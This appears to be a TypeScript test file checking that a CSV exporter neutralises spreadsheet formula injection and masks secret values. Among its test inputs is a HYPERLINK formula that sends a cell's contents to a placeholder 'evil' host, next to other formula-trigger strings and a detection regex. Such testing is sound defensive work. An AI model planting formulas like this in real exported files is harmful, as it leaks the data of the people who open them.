import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { MASKED, strictMaskOf } from '../secret-mask.ts'
import { requestRow } from '../testing/rows.ts'
import { csvColumns, csvHeader, fieldOf, fromCsv, textOf, toCsv } from './csv.ts'

/** What a spreadsheet runs: OWASP's list, also behind white space. */
const isFormula = (cell: string): boolean => /^[\s\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell)
const cellsOf = (text: string): string[] => (parse(text) as string[][]).flat()

test.each([
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1',
  '\t=1',
  '＝1',
  "'=1",
  "''=1",
  '="a"\n=1',
])('%j is no formula on disk, and is read as it was', (error) => {
  const written = toCsv('requests.csv', [requestRow({ error, finishReason: error })])
  expect(cellsOf(written).filter(isFormula)).toEqual([])
  expect(fromCsv('requests.csv', csvHeader('requests.csv') + written)).toMatchObject([{ error, finishReason: error }])
})

test('a field that is no formula is written as it is', () => {
  for (const text of ['', 'stop', "'quoted'", "it's", '5-1', 'a=b']) expect(fieldOf(text)).toBe(text)
})

test('every text comes back from its field, and no field is a formula', () => {
  const text = fc.string({ unit: fc.constantFrom(...'\'=+-@ \tab"\n,＝') })
  fc.assert(
    fc.property(fc.oneof(text, fc.string({ unit: 'binary' })), (value) => {
      expect(textOf(fieldOf(value))).toBe(value)
      expect(isFormula(fieldOf(value))).toBe(false)
    }),
  )
})

test('a mask changes texts only, never a number', () => {
  const row = requestRow({ error: 'key 1234567890123456 refused', firstTokenMs: 1_234_567.123 })
  const mask = strictMaskOf(['1234567890123456', '1234567.123'])
  const [cells = []] = parse(toCsv('requests.csv', [row], mask)) as string[][]
  const cell = (name: string) => cells[(csvColumns['requests.csv'] as readonly string[]).indexOf(name)]
  expect(cell('error')).toBe(`key ${MASKED} refused`)
  expect(cell('firstTokenMs')).toBe('1234567.123')
})
